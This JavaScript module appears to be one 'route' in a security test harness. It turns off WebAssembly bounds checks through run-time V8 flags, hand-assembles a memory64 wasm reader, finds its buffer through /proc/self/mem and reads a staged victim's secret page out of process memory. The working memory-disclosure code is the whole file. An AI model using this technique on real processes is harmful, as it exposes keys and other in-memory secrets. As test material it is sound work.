/**
 * Route: V8 flags that are set at run time remove the bounds checks of WebAssembly. With addresses
 * of 64 bits, a load then reads any address of the process.
 */
import { openSync } from 'node:fs';
import { setFlagsFromString } from 'node:v8';
import { findOwnBuffer } from '../../../../tools/forensics/own-memory.js';
import { loadKey, report, secretPage } from './victim.mjs';

const key = await loadKey();
setFlagsFromString('--no-wasm-bounds-checks');
setFlagsFromString('--experimental-wasm-memory64');
// (module (memory (export "m") i64 1)
//   (func (export "r") (param i64) (result i32) (i32.load8_u (local.get 0))))
const header = [0, 0x61, 0x73, 0x6d, 1, 0, 0, 0];
const type = [1, 6, 1, 0x60, 1, 0x7e, 1, 0x7f];
const declarations = [3, 2, 1, 0, 5, 3, 1, 4, 1, 7, 9, 2, 1, 0x6d, 2, 0, 1, 0x72, 0, 0];
const code = [10, 9, 1, 7, 0, 0x20, 0, 0x2d, 0, 0, 0x0b];
const module = new WebAssembly.Module(Uint8Array.from([...header, ...type, ...declarations, ...code]));
const { m: memory, r: read } = new WebAssembly.Instance(module).exports;
const base = findOwnBuffer(openSync('/proc/self/mem', 'r'), Buffer.from(memory.buffer));
const { start, bytes } = secretPage();
const page = Buffer.alloc(bytes);
for (let i = 0; i < bytes; i += 1) page[i] = read(BigInt(start + i) - BigInt(base));
report(page);
key.destroy();
